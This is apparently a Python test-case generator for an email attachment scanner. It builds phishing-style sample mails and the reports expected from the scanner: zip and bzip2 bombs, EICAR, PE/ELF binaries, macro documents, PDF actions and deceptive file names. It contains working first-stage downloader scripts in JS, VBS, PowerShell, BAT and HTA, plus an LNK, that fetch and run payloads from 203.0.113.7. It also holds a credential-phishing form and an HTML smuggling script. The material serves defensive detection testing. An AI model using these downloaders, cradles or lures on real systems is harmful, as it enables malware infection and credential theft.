        att = top(name, "application/zip", z, "zip", is_archive=True,
                  mime="application/zip", encrypted=True, password_used=pw,
                  flags_present=["encrypted_archive"],
                  files=[inner(inner_name, doc, "txt", encrypted=True)])
        keyword = body.split("\n")[3].split(":")[0]
        write_case(case, m, [att],
                   "The body gives the password after \"%s:\" at the start "
                   "of a line, capitalized as written in the language; the "
                   "keyword list of docs/attachments.md includes its lower "
                   "case form, and a keyword is matched regardless of case, "
                   "so the candidate 4471 opens the ZipCrypto zip." % keyword,
                   defects=NO_DEFECTS)


def case_zip_no_password():
    doc = invoice_text("STATEMENT 2024-05", "12,044.10")
    z = make_zip([("Statement_May_2024.txt", doc)], password="kQ7-v2Lm")
    body = ("Dear Jordan,\n\nyour account statement for May 2024 is attached "
            "as a protected archive.\nThe access code was sent to your "
            "mobile phone by SMS.\n\nKind regards\nClient Services\n")
    m = Mail("Client Services <statements@examplebank.example>", CUSTOMER,
             "Your account statement May 2024",
             "Mon, 03 Jun 2024 06:12:40 +0200", body, "examplebank.example")
    m.attach(z, "application/zip", "Statement_May_2024.zip")
    locked = {"filename": "Statement_May_2024.txt", "content_type": None,
              "extension": "txt", "encrypted": True, "is_archive": False,
              "size": 0, "md5": None, "sha1": None, "sha256": None,
              "sha512": None, "ssdeep": None, "mime_type": None,
              "magic": None,
              "files": [], "yara": [],
              "flags": [{"name": "encrypted_archive",
                         "reason": {"$substring": "no candidate"}}]}
    att = top("Statement_May_2024.zip", "application/zip", z, "zip",
              is_archive=True, mime="application/zip",
              archive_format={"$regex": "^ZIP"}, encrypted=True,
              password_used=None, files=[locked])
    att["flags"] = [{"name": "encrypted_archive",
                     "reason": {"$substring": "no password found"}}]
    write_case("zip_no_password", m, [att],
               "A ZipCrypto zip whose password is not in the mail (the body "
               "names no password keyword): encrypted, password_used null, "
               "the encrypted_archive flag; the entry is listed by name with "
               "its own encrypted_archive flag but its content stays locked: "
               "no bytes, so size 0 and null digests and types (the digests "
               "of an empty file would be wrong), and the locked entry adds "
               "no sha256 to the observables.", defects=NO_DEFECTS,
               extra={"observables": {"hashes": [hashlib.sha256(z)
                                                 .hexdigest()]}})


def case_7z_encrypted_headers():
    if not have("7z"):
        return skip("7z_encrypted_headers", "7z not installed")
    doc = invoice_text("INV-2024-0630", "4,100.00")
    s = make_7z([("INV-2024-0630.txt", doc)], password="4471",
                encrypt_names=True)
    m = invoice_mail("Invoice INV-2024-0630 (password: 4471)",
                     INVOICE_BODY.format(num="INV-2024-0630",
                                         amount="4,100.00"))
    m.attach(s, "application/x-7z-compressed", "INV-2024-0630.7z")
    att = top("INV-2024-0630.7z", "application/x-7z-compressed", s, "7z",
              is_archive=True, mime="application/x-7z-compressed",
              encrypted=True, password_used=None, files=[])
    att["flags"] = [{"name": "encrypted_archive"}]
    write_case("7z_encrypted_headers", m, [att],
               "A 7z whose headers are encrypted too (7z -mhe=on): libarchive "
               "cannot decrypt 7z (docs/attachments.md, Known limits), so the "
               "archive stays locked even though the subject holds the "
               "password: encrypted, no password_used, no files, flagged.")


def case_zip_bomb():
    # 200 MiB of zeros, deflated (about 200 KB), inside a zip that
    # deflates again (a few KB): the attachment stays small.
    buf = io.BytesIO()
    info = zipfile.ZipInfo("Q2_figures.xlsx.bin", (2024, 6, 3, 8, 15, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buf, "w", compresslevel=9) as zf:
        with zf.open(info, "w", force_zip64=True) as f:
            chunk = bytes(1 << 20)
            for _ in range(200):
                f.write(chunk)
    bomb = buf.getvalue()
    # Info-ZIP stores members named .zip without compressing them, so the
    # outer zip is written here, deflated at level 9.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED,
                         compresslevel=9) as zf:
        zf.writestr(zipfile.ZipInfo("Q2_figures.zip", (2024, 6, 3, 8, 15, 0)),
                    bomb, zipfile.ZIP_DEFLATED)
    z = buf.getvalue()
    m = invoice_mail("Q2 figures",
                     "Hi Jordan,\n\nthe Q2 figures you asked for.\n\nSarah\n")
    m.attach(z, "application/zip", "Q2_figures.zip")
    bomb_report = {"filename": "Q2_figures.zip", "is_archive": True,
                   "files": []}
    bomb_report.update(hashes(bomb))
    att = {"filename": "Q2_figures.zip", "is_archive": True,
           "files": [bomb_report]}
    att.update(hashes(z))
    write_case("zip_bomb", m, [att],
               "A zip holding a zip that inflates to 200 MiB of zeros "
               "(ratio about 1000:1). The inner archive is stopped once it "
               "has produced more than ratio_min_bytes (1 MiB) at more than "
               "max_ratio (100) times its size: a limit_archive_ratio "
               "defect at its path, and the bomb's entry is not reported. "
               "Must finish well inside the runner's timeout (under 2 s).",
               extra={"defects": {"$contains": [
                   {"type": "limit_archive_ratio",
                    "path": "2/Q2_figures.zip"}]}})


def case_bzip2_bomb():
    if not have("bzip2"):
        return skip("bzip2_bomb", "bzip2 not installed")
    # bzip2 runs zeros through run-length coding before the block sort:
    # 200 MiB of zeros compress to a few hundred bytes.
    zeros = bytes(200 << 20)
    b = compress("bzip2", zeros)
    del zeros
    assert len(b) < 1024, len(b)
    m = Mail("DB Admin <dba@northwind-supplies.example>", CUSTOMER,
             "Nightly database dump", "Sun, 02 Jun 2024 03:30:00 +0100",
             "The nightly dump of the orders database is attached.\n\n"
             "-- \ncron@db1\n", "northwind-supplies.example",
             client="mailx 12.5")
    m.attach(b, "application/x-bzip2", "orders_dump.sql.bz2")
    att = top("orders_dump.sql.bz2", "application/x-bzip2", b, "bz2",
              is_archive=True, mime="application/x-bzip2", files=[])
    write_case("bzip2_bomb", m, [att],
               "A %d-byte bzip2 stream of 200 MiB of zeros. The bare "
               "compressor is read through the raw format; once more than "
               "ratio_min_bytes (1 MiB) came out at more than max_ratio "
               "(100) times the attachment's size, extraction stops with "
               "limit_archive_ratio at the attachment (path 2) and the "
               "truncated member is not reported. Runs in well under 2 s."
               % len(b),
               extra={"defects": [{"type": "limit_archive_ratio",
                                   "path": "2"}]})


def case_zip_password_subject():
    doc = invoice_text("INV-2024-0660", "2,048.00")
    z = make_zip([("INV-2024-0660.txt", doc)], password="Kx-0660")
    m = invoice_mail("Invoice INV-2024-0660 (pwd: Kx-0660)",
                     INVOICE_BODY.format(num="INV-2024-0660",
                                         amount="2,048.00"))
    m.attach(z, "application/zip", "INV-2024-0660.zip")
    att = top("INV-2024-0660.zip", "application/zip", z, "zip",
              is_archive=True, mime="application/zip", encrypted=True,
              password_used="Kx-0660", flags_present=["encrypted_archive"],
              files=[inner("INV-2024-0660.txt", doc, "txt", encrypted=True)])
    write_case("zip_password_subject", m, [att],
               "The password is only in the subject, \"(pwd: Kx-0660)\": the "
               "closing parenthesis after a bare password is punctuation, "
               "not part of it, so Kx-0660 opens the ZipCrypto zip.",
               defects=NO_DEFECTS)


def case_eicar():
    z = make_zip([("eicar.com", EICAR)])
    m = Mail("IT Security <secops@example.org>", CUSTOMER,
             "Mail gateway test: EICAR in a zip",
             "Wed, 05 Jun 2024 11:00:00 +0000",
             "Hello,\n\nthis is the quarterly test of the mail gateway. The "
             "attached zip holds the\nEICAR anti-virus test file; it is "
             "harmless. Please do not open it.\n\nIT Security\n",
             "example.org")
    m.attach(z, "application/zip", "eicar_com.zip")
    eicar = inner("eicar.com", EICAR, "com",
                  flags_present=["executable"],
                  yara=[yara_rule("EICAR_Test_File", "eicar.yar",
                                  ["test", "antivirus"])])
    att = top("eicar_com.zip", "application/zip", z, "zip", is_archive=True,
              mime="application/zip", encrypted=False, password_used=None,
              files=[eicar])
    write_case("eicar_zip", m, [att],
               "The EICAR test file inside a zip: the YARA rule "
               "EICAR_Test_File (conf/yara/eicar.yar, tags test and "
               "antivirus) matches the inner file, not the zip; .com is an "
               "extension Windows runs as a program, so the entry is also "
               "flagged executable.", defects=NO_DEFECTS)


def case_pe():
    pe = pe_file()
    m = Mail("IT Support <it-support@example.org>", CUSTOMER,
             "Mandatory VPN client update",
             "Wed, 05 Jun 2024 08:03:12 +0000",
             "Hello,\n\nplease install the attached VPN client update before "
             "Friday; without it\nyou will not be able to connect from home "
             "next week.\n\nIT Support\n", "example.org",
             src_ip="192.0.2.77")
    m.attach(pe, "application/x-msdownload", "VPNClientUpdate.exe")
    att = top("VPNClientUpdate.exe", "application/x-msdownload", pe, "exe",
              mime=PE_MIME, flags_present=["executable"],
              yara=[yara_rule("PE_File", "executables.yar",
                              ["executable", "pe"])])
    att["flags"] = [{"name": "executable",
                     "reason": {"$substring": "PE"}}]
    write_case("pe_executable", m, [att],
               "A 32-bit Windows PE built by hand (MZ header with e_lfanew "
               "0x80, PE\\0\\0, COFF and optional headers, one .text section): "
               "flagged executable by its header, matched by PE_File; .exe "
               "with a PE is no type mismatch.", defects=NO_DEFECTS)


def case_elf():
    elf = elf_file()
    m = Mail("Build Server <ci@build.example.net>", CUSTOMER,
             "Nightly build agent update",
             "Wed, 05 Jun 2024 01:17:00 +0000",
             "The build agent binary for Linux is attached; copy it to "
             "/opt/agent/bin and restart\nthe service.\n\n-- \nbuild.example"
             ".net\n", "build.example.net")
    m.attach(elf, "application/octet-stream", "agent-update")
    att = top("agent-update", "application/octet-stream", elf, "",
              flags_present=["executable"])
    att["flags"] = [{"name": "executable", "reason": {"$substring": "ELF"}}]
    att["mime_type"] = {"$regex": "^application/x-(pie-)?executable$"}
    write_case("elf_executable", m, [att],
               "A static x86-64 ELF program built by hand (ELF header, one "
               "PT_LOAD segment, exit(0)), sent without an extension: "
               "flagged executable by its ELF header.", defects=NO_DEFECTS)


SCRIPTS = {
    "js": ("Invoice_0611.js", "application/javascript",
           b"var sh = new ActiveXObject(\"WScript.Shell\");\r\n"
           b"var fso = new ActiveXObject(\"Scripting.FileSystemObject\");\r\n"
           b"var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n"
           b"x.open(\"GET\", \"http://203.0.113.7/inv.dat\", false);\r\n"
           b"x.send();\r\n"
           b"var p = sh.ExpandEnvironmentStrings(\"%TEMP%\") + "
           b"\"\\\\inv.exe\";\r\n"
           b"var s = new ActiveXObject(\"ADODB.Stream\");\r\n"
           b"s.Type = 1; s.Open(); s.Write(x.responseBody);\r\n"
           b"s.SaveToFile(p, 2); s.Close();\r\nsh.Run(p, 0, false);\r\n"),
    "vbs": ("Order_Confirmation.vbs", "text/vbscript",
            b"Set sh = CreateObject(\"WScript.Shell\")\r\n"
            b"Set http = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\n"
            b"http.Open \"GET\", \"http://203.0.113.7/order.dat\", False\r\n"
            b"http.Send\r\n"
            b"p = sh.ExpandEnvironmentStrings(\"%TEMP%\") & \"\\order.exe\""
            b"\r\n"
            b"Set st = CreateObject(\"ADODB.Stream\")\r\n"
            b"st.Type = 1 : st.Open : st.Write http.ResponseBody\r\n"
            b"st.SaveToFile p, 2 : st.Close\r\nsh.Run p, 0, False\r\n"),
    "ps1": ("Update-Certificates.ps1", "application/octet-stream",
            b"# Renews the company root certificates\r\n"
            b"$u = 'http://203.0.113.7/stage2.ps1'\r\n"
            b"powershell -NoProfile -WindowStyle Hidden -Command "
            b"\"IEX (New-Object Net.WebClient).DownloadString('$u')\"\r\n"),
    "bat": ("setup_printer.bat", "application/octet-stream",
            b"@echo off\r\n"
            b"rem Installs the network printer driver\r\n"
            b"bitsadmin /transfer drv /download /priority high "
            b"http://203.0.113.7/drv.exe %TEMP%\\drv.exe\r\n"
            b"start \"\" /b %TEMP%\\drv.exe\r\nexit\r\n"),
    "hta": ("Voicemail_0605.hta", "application/hta",
            b"<html><head><title>Voicemail</title>\r\n"
            b"<HTA:APPLICATION ID=\"vm\" WINDOWSTATE=\"minimize\" "
            b"SHOWINTASKBAR=\"no\">\r\n"
            b"<script language=\"VBScript\">\r\n"
            b"Set sh = CreateObject(\"WScript.Shell\")\r\n"
            b"sh.Run \"mshta http://203.0.113.7/vm.hta\", 0\r\n"
            b"window.close\r\n</script></head><body></body></html>\r\n"),
}


def case_scripts():
    for ext, (name, ctype, data) in SCRIPTS.items():
        m = invoice_mail({"js": "Invoice 0611 - payment overdue",
                          "vbs": "Order confirmation #55120",
                          "ps1": "Certificate renewal (action required)",
                          "bat": "New printer on floor 3",
                          "hta": "You have a new voicemail (0:47)"}[ext],
                         INVOICE_BODY.format(num="INV-2024-0611",
                                             amount="1,204.80")
                         if ext == "js" else
                         "Hello Jordan,\n\nplease open the attached file "
                         "%s and follow the instructions.\n\nThank you\n"
                         % name)
        m.attach(data, ctype, name)
        present = ["script"]
        yara = None
        if ext == "ps1":
            yara = [yara_rule("PowerShell_Download_Cradle", "powershell.yar",
                              ["script", "downloader"])]
        if ext == "hta":
            present.append("html_script")
        att = top(name, ctype, data, ext, flags_present=present, yara=yara,
                  reasons={"script": {"$substring":
                                      ".%s is run by a script host" % ext}})
        comment = ("A .%s attachment (a realistic first-stage downloader): "
                   "flagged script by its extension, which Windows hands to "
                   "a script host on a double click." % ext)
        if ext == "ps1":
            comment += (" The body runs powershell with Net.WebClient "
                        "DownloadString and IEX: PowerShell_Download_Cradle.")
        if ext == "hta":
            comment += (" .hta is also an HTML extension and the file holds "
                        "a <script>: html_script.")
        write_case("script_" + ext, m, [att], comment, defects=NO_DEFECTS)


def case_trailing_dot():
    name, ctype, data = SCRIPTS["vbs"]
    name = name + "."
    m = invoice_mail("Order confirmation #55120",
                     "Hello Jordan,\n\nplease open the attached order "
                     "confirmation.\n\nThank you\n")
    m.attach(data, "application/octet-stream", name)
    att = top(name, "application/octet-stream", data, "vbs",
              flags_present=["script"])
    write_case("script_trailing_dot", m, [att],
               "Order_Confirmation.vbs. with a trailing dot: Windows drops "
               "trailing dots and spaces from a file name when it saves the "
               "file, so it is saved and run as a .vbs. The extension is "
               "therefore vbs and the file is flagged script.",
               defects=NO_DEFECTS)

    pe = pe_file()
    name = "invoice.pdf.exe."
    m = invoice_mail("Invoice INV-2024-0611",
                     INVOICE_BODY.format(num="INV-2024-0611",
                                         amount="1,204.80"))
    m.attach(pe, "application/octet-stream", name)
    att = top(name, "application/octet-stream", pe, "exe", mime=PE_MIME,
              flags_present=["executable", "double_extension"],
              reasons={"double_extension":
                       "name ends .pdf.exe: a .exe posing as a .pdf"},
              yara=[yara_rule("PE_File", "executables.yar",
                              ["executable", "pe"])])
    write_case("double_extension_trailing_dot", m, [att],
               "\"invoice.pdf.exe.\" (a dot after .exe): Windows "
               "saves it as invoice.pdf.exe, so the name still ends .pdf.exe: "
               "double_extension, extension exe, and a PE: executable.",
               defects=NO_DEFECTS)


def case_lnk():
    lnk = lnk_file("/c powershell -w hidden -c \"iwr http://203.0.113.7/a.ps1"
                   " -UseBasicParsing | iex\"")
    m = invoice_mail("Invoice INV-2024-0611",
                     INVOICE_BODY.format(num="INV-2024-0611",
                                         amount="1,204.80"))
    m.attach(lnk, "application/octet-stream", "INV-2024-0611.pdf.lnk")
    att = top("INV-2024-0611.pdf.lnk", "application/octet-stream", lnk, "lnk",
              flags_present=["shortcut", "double_extension"])
    att["flags"] = [{"name": "shortcut",
                     "reason": {"$substring": "header"}},
                    {"name": "double_extension"}]
    write_case("script_lnk", m, [att],
               "A Windows shortcut (MS-SHLLINK header 0x4C + LinkCLSID "
               "00021401-...-46) to cmd.exe with PowerShell arguments, named "
               "INV-2024-0611.pdf.lnk: flagged shortcut by its header and "
               "double_extension (.pdf decoy before .lnk).",
               defects=NO_DEFECTS)


def case_double_extension():
    pe = pe_file()
    m = invoice_mail("Invoice INV-2024-0611",
                     INVOICE_BODY.format(num="INV-2024-0611",
                                         amount="1,204.80"))
    m.attach(pe, "application/octet-stream", "invoice.pdf.exe")
    att = top("invoice.pdf.exe", "application/octet-stream", pe, "exe",
              mime=PE_MIME,
              flags_present=["executable", "double_extension"],
              yara=[yara_rule("PE_File", "executables.yar",
                              ["executable", "pe"])])
    att["flags"] = [{"name": "executable"},
                    {"name": "double_extension",
                     "reason": "name ends .pdf.exe: a .exe posing as a .pdf"}]
    write_case("double_extension", m, [att],
               "invoice.pdf.exe, a PE: double_extension (decoy .pdf before "
               ".exe) and executable; .exe holding a PE and a generic "
               "declared type are no type mismatch.", defects=NO_DEFECTS)


def case_rtl(case, rfc):
    pe = pe_file()
    name = "Invoice_2024_06\u202efdp.exe"
    m = invoice_mail("Invoice 2024/06",
                     INVOICE_BODY.format(num="2024/06", amount="2,310.00"))
    enc2047 = "=?UTF-8?B?%s?=" % base64.b64encode(
        name.encode()).decode()
    enc2231 = "UTF-8''" + urllib.parse.quote(name.encode(), safe="")
    if rfc == 2231:
        m.attach(pe, "application/octet-stream", name,
                 name_param='name="%s"' % enc2047,
                 disposition_param="filename*=%s" % enc2231)
        how = ("RFC 2231 (filename*=UTF-8''...%E2%80%AE...) in "
               "Content-Disposition, RFC 2047 in the Content-Type name, as "
               "Thunderbird writes it")
    else:
        m.attach(pe, "application/octet-stream", name,
                 name_param='name="%s"' % enc2047,
                 disposition_param='filename="%s"' % enc2047)
        how = ("RFC 2047 encoded words in both name and filename, as Outlook "
               "writes them")
    att = top(name, "application/octet-stream", pe, "exe",
              flags_present=["executable", "rtl_override"],
              yara=[yara_rule("PE_File", "executables.yar",
                              ["executable", "pe"])])
    att["flags"] = [{"name": "executable"},
                    {"name": "rtl_override",
                     "reason": {"$substring": "U+202E"}}]
    write_case(case, m, [att],
               "The name Invoice_2024_06<U+202E>fdp.exe (displayed as "
               "Invoice_2024_06exe.pdf) encoded with %s: decoded to UTF-8, "
               "flagged rtl_override; a PE, so also executable." % how,
               defects=NO_DEFECTS)


def case_space_padding():
    pe = pe_file()
    name = "Statement_May_2024.pdf" + " " * 42 + ".scr"
    m = Mail("Client Services <statements@examplebank.example>", CUSTOMER,
             "Your account statement May 2024",
             "Mon, 03 Jun 2024 06:12:40 +0200",
             "Dear customer,\n\nyour statement for May 2024 is attached.\n\n"
             "Client Services\n", "examplebank.example",
             src_ip="203.0.113.99")
    m.attach(pe, "application/octet-stream", name)
    att = top(name, "application/octet-stream", pe, "scr",
              flags_present=["executable", "double_extension",
                             "space_padding_name"],
              yara=[yara_rule("PE_File", "executables.yar",
                              ["executable", "pe"])])
    att["flags"] = [{"name": "executable"}, {"name": "double_extension"},
                    {"name": "space_padding_name",
                     "reason": "name holds 42 spaces in a row"}]
    write_case("space_padding", m, [att],
               "Statement_May_2024.pdf, 42 spaces, .scr: space_padding_name "
               "(5 or more spaces in a row), double_extension (the spaces "
               "around an extension are ignored, so .pdf then .scr), and a "
               "PE: executable.", defects=NO_DEFECTS)


def case_ole_macro():
    doc = word97_doc(with_macros=True)
    m = invoice_mail("Purchase order PO-24-0611",
                     "Hello Jordan,\n\nplease find our purchase order "
                     "PO-24-0611 attached. If the document\ndoes not display "
                     "correctly, click \"Enable Content\".\n\nRegards\n"
                     "Procurement\n")
    m.attach(doc, "application/msword", "PO-24-0611.doc")
    assert b"AutoOpen" in doc and "_VBA_PROJECT".encode("utf-16-le") in doc
    att = top("PO-24-0611.doc", "application/msword", doc, "doc",
              flags_present=["office_macro"],
              yara={"$contains": [yara_rule("Office_Macro_AutoExec",
                                            "office_macro.yar",
                                            ["office", "macro"])]})
    att["flags"] = [{"name": "office_macro",
                     "reason": {"$substring": "VBA"}}]
    write_case("ole_macro", m, [att],
               "A Word 97-2003 document built as a real compound file: "
               "version 3, 512-byte sectors, FAT and mini FAT, mini stream, "
               "red-black sibling trees; Root Entry > Macros > VBA > "
               "{_VBA_PROJECT, dir, ThisDocument} with the module source "
               "MS-OVBA compressed (literal tokens). The directory walk "
               "finds the VBA storage: office_macro. The file starts with "
               "the OLE signature, holds _VBA_PROJECT in UTF-16 and the "
               "literal AutoOpen, so Office_Macro_AutoExec matches.",
               defects=NO_DEFECTS)


def case_ole_clean():
    doc = word97_doc(with_macros=False)
    m = invoice_mail("Minutes of the supplier meeting",
                     "Hello Jordan,\n\nthe minutes of Tuesday's meeting are "
                     "attached.\n\nRegards\nSarah\n")
    m.attach(doc, "application/msword", "Minutes_2024-06-04.doc")
    att = top("Minutes_2024-06-04.doc", "application/msword", doc, "doc")
    write_case("ole_clean", m, [att],
               "The same compound file without the Macros storage: no VBA "
               "entry in the directory, so no office_macro; no flag at "
               "all and no YARA match.", defects=NO_DEFECTS)


def case_docm():
    docm = docm_file()
    ctype = "application/vnd.ms-word.document.macroEnabled.12"
    # MIME types are case-insensitive (RFC 2045 5.1); the parser reports
    # them in lower case.
    m = invoice_mail("Order form - please complete",
                     "Hello Jordan,\n\nplease complete the attached order "
                     "form and send it back by Friday.\nMacros must be "
                     "enabled for the price calculation.\n\nRegards\n"
                     "Sales\n")
    m.attach(docm, ctype, "Order_Form_2024.docm")
    att = top("Order_Form_2024.docm", ctype.lower(), docm, "docm",
              flags_present=["office_macro"], is_archive=False,
              yara={"$not_contains": [{"rule": "EICAR_Test_File"}]})
    att["flags"] = [{"name": "office_macro",
                     "reason": {"$substring": "vbaProject.bin"}}]
    write_case("ooxml_docm", m, [att],
               "A macro-enabled Word document (.docm, OPC zip with "
               "word/vbaProject.bin, the VBA project as a compound file): "
               "office_macro; an Office Open XML file is a document, not an "
               "archive (is_archive false, no files).", defects=NO_DEFECTS)


def case_zip_looks_like_docx():
    """A zip whose first members are those of a Word document, so that
    libmagic calls it one, sent as .zip: Windows opens a .zip as a
    folder and shows the program inside."""
    pe = pe_file()
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
          'content-types"><Default Extension="xml" ContentType="application/'
          'xml"/><Override PartName="/word/document.xml" ContentType='
          '"application/vnd.openxmlformats-officedocument.wordprocessingml.'
          'document.main+xml"/></Types>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/'
           'wordprocessingml/2006/main"><w:body/></w:document>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://'
            'schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="word/document.xml"/></Relationships>')
    buf = io.BytesIO()
    when = (2024, 6, 3, 8, 15, 0)
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in (("[Content_Types].xml", ct.encode()),
                           ("_rels/.rels", rels.encode()),
                           ("word/document.xml", doc.encode()),
                           ("Invoice_0611.pdf.exe", pe)):
            zf.writestr(zipfile.ZipInfo(name, when), data,
                        zipfile.ZIP_DEFLATED)
    z = buf.getvalue()
    m = invoice_mail("Invoice INV-2024-0611",
                     INVOICE_BODY.format(num="INV-2024-0611",
                                         amount="1,204.80"))
    m.attach(z, "application/zip", "INV-2024-0611.zip")
    files = [inner("[Content_Types].xml", ct.encode(), "xml"),
             inner("_rels/.rels", rels.encode(), "rels"),
             inner("word/document.xml", doc.encode(), "xml"),
             inner("Invoice_0611.pdf.exe", pe, "exe", mime=PE_MIME,
                   flags_present=["executable", "double_extension"],
                   yara=[yara_rule("PE_File", "executables.yar",
                                   ["executable", "pe"])])]
    att = top("INV-2024-0611.zip", "application/zip", z, "zip",
              is_archive=True, encrypted=False, password_used=None,
              files=files, flags=[{"name": "type_mismatch"}])
    write_case("zip_looks_like_docx", m, [att],
               "A zip whose first members are [Content_Types].xml, "
               "_rels/.rels and word/document.xml, so libmagic calls it a Word document, "
               "sent as INV-2024-0611.zip with a PE inside. Windows opens a "
               ".zip as a folder whatever its members, so the file is an "
               "archive: its members are listed and the PE is flagged "
               "(executable, double_extension, PE_File). The .zip extension "
               "against libmagic's Word type is a type_mismatch.",
               defects=NO_DEFECTS)


def pdf_case(case, subject, name, objects, present, comment):
    data = pdf(objects)
    m = invoice_mail(subject, INVOICE_BODY.format(num="INV-2024-0611",
                                                  amount="1,204.80"))
    m.attach(data, "application/pdf", name)
    att = top(name, "application/pdf", data, "pdf", mime="application/pdf",
              flags_present=present)
    write_case(case, m, [att], comment, defects=NO_DEFECTS)


def case_pdfs():
    page = pdf_page(b"Invoice INV-2024-0611")
    pdf_case("pdf_javascript", "Invoice INV-2024-0611", "INV-2024-0611.pdf",
             [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"] + page +
             [b"<< /Type /Action /S /JavaScript /JS (app.launchURL\\("
              b"'https://pay-invoice.example.net/0611', true\\);) >>"],
             ["pdf_javascript", "pdf_open_action"],
             "A PDF whose catalog has an /OpenAction pointing to a "
             "/JavaScript action: pdf_open_action and pdf_javascript (the "
             "action dictionary also has /JS, the same flag).")
    pdf_case("pdf_launch", "Invoice INV-2024-0612", "INV-2024-0612.pdf",
             [b"<< /Type /Catalog /Pages 2 0 R >>"] +
             [page[0], page[1].replace(b"/Contents 4 0 R", b"/Contents 4 0 R "
                                       b"/Annots [5 0 R]"), page[2]] +
             [b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] "
              b"/A << /S /Launch /Win << /F (cmd.exe) /P (/c start "
              b"https://pay-invoice.example.net/0612) >> >> >>"],
             ["pdf_launch"],
             "A PDF with a link annotation whose action is /Launch (cmd.exe "
             "with arguments): pdf_launch, and nothing else.")
    payload = b"MZ" + bytes(62)
    pdf_case("pdf_embedded_file", "Invoice INV-2024-0613", "INV-2024-0613.pdf",
             [b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles "
              b"<< /Names [(INV-2024-0613.xlsm) 5 0 R] >> >> >>"] + page +
             [b"<< /Type /Filespec /F (INV-2024-0613.xlsm) /EF << /F 6 0 R "
              b">> >>",
              b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload)
              + payload + b"\nendstream"],
             ["pdf_embedded_file"],
             "A PDF carrying an attached file (catalog /Names /EmbeddedFiles,"
             " a /Filespec with /EF, the /EmbeddedFile stream): "
             "pdf_embedded_file only.")


HTML_FORM = b"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>Sign in to your account</title>
<style>body{font-family:Segoe UI,Arial;background:#f2f2f2}</style>
</head><body>
<div class="box"><img src="https://cdn.example.net/logo.svg" alt="">
<h1>Sign in to view the shared document</h1>
<form method="POST" action="https://docs-share.example.net/auth/login.php">
<input type="email" name="login" value="jordan.reyes@example.org">
<input type="password" name="passwd" placeholder="Password" required>
<button type="submit">Sign in</button>
</form></div></body></html>
"""

HTML_SCRIPT = b"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Remittance advice</title></head>
<body><p>Your document is being downloaded...</p>
<script>
var b64 = "UEsDBBQAAAAIAAAAIQBkb2N1bWVudC50eHQ=";
var bin = atob(b64);
var buf = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) { buf[i] = bin.charCodeAt(i); }
var blob = new Blob([buf], {type: "application/zip"});
var a = document.createElement("a");
a.href = URL.createObjectURL(blob);
a.download = "Remittance_0611.zip";
document.body.appendChild(a);
a.click();
</script></body></html>
"""


def case_html():
    m = Mail("Microsoft SharePoint <no-reply@sharepoint-docs.example>",
             CUSTOMER, "Sarah Whitfield shared \"Q2 Contract.pdf\" with you",
             "Tue, 04 Jun 2024 13:27:55 +0000",
             "Sarah Whitfield shared a file with you.\n\nQ2 Contract.pdf\n\n"
             "Open the attached page to sign in and view the document.\n",
             "sharepoint-docs.example", src_ip="203.0.113.150")
    m.attach(HTML_FORM, "text/html", "Q2_Contract_view.html")
    att = top("Q2_Contract_view.html", "text/html", HTML_FORM, "html",
              mime="text/html", flags_present=["html_form"],
              yara=[yara_rule("HTML_Credential_Form", "html_phishing.yar",
                              ["html", "phishing"])])
    write_case("html_form", m, [att],
               "A credential-phishing page attached as .html: a <form> with a "
               "password field posting to an https URL. html_form (no "
               "<script>, so no html_script); HTML_Credential_Form matches.",
               defects=NO_DEFECTS)

    m = invoice_mail("Remittance advice 0611",
                     "Hello Jordan,\n\nplease see the attached remittance "
                     "advice for payment 0611.\n\nRegards\nSarah\n")
    m.attach(HTML_SCRIPT, "text/html", "Remittance_0611.htm")
    att = top("Remittance_0611.htm", "text/html", HTML_SCRIPT, "htm",
              mime="text/html", flags_present=["html_script"],
              yara=[yara_rule("HTML_Smuggling", "html_phishing.yar",
                              ["html", "dropper"])])
    write_case("html_script", m, [att],
               "HTML smuggling: a <script> decodes base64 with atob, builds a "
               "Blob and saves it through an <a download> and "
               "createObjectURL. html_script (no <form>); HTML_Smuggling "
               "matches.", defects=NO_DEFECTS)


def case_disk_images():
    vhd = vhd_fixed(mbr_disk())
    m = Mail("Scanner <scanner@example.org>", CUSTOMER,
             "Scanned documents (disk image)",
             "Thu, 06 Jun 2024 09:48:30 +0000",
             "Your scanned documents are attached as a disk image.\n"
             "Double-click it to open the documents.\n", "example.org",
             src_ip="198.51.100.201")
    m.attach(vhd, "application/octet-stream", "Scanned_Documents.vhd")
    att = top("Scanned_Documents.vhd", "application/octet-stream", vhd,
              "vhd", flags_present=["disk_image"])
    att["flags"] = [{"name": "disk_image", "reason": "VHD disk image"}]
    write_case("disk_image_vhd", m, [att],
               "A fixed VHD (a 32 KiB raw disk with an MBR, then the "
               "512-byte footer starting with \"conectix\"): disk_image by "
               "signature, so the reason names VHD, not the extension.",
               defects=NO_DEFECTS)

    img = fat12_floppy_head()
    m = Mail("Shipping <shipping@fastfreight.example>", CUSTOMER,
             "Shipping labels", "Thu, 06 Jun 2024 10:02:11 +0200",
             "Hello,\n\nthe shipping labels are on the attached image; "
             "open it and print\nthe PDF inside.\n\nFastFreight\n",
             "fastfreight.example")
    m.attach(img, "application/octet-stream", "Shipping_Labels.img")
    att = top("Shipping_Labels.img", "application/octet-stream", img, "img",
              flags_present=["disk_image"])
    att["flags"] = [{"name": "disk_image",
                     "reason": ".img is mounted as a disk by a double click"}]
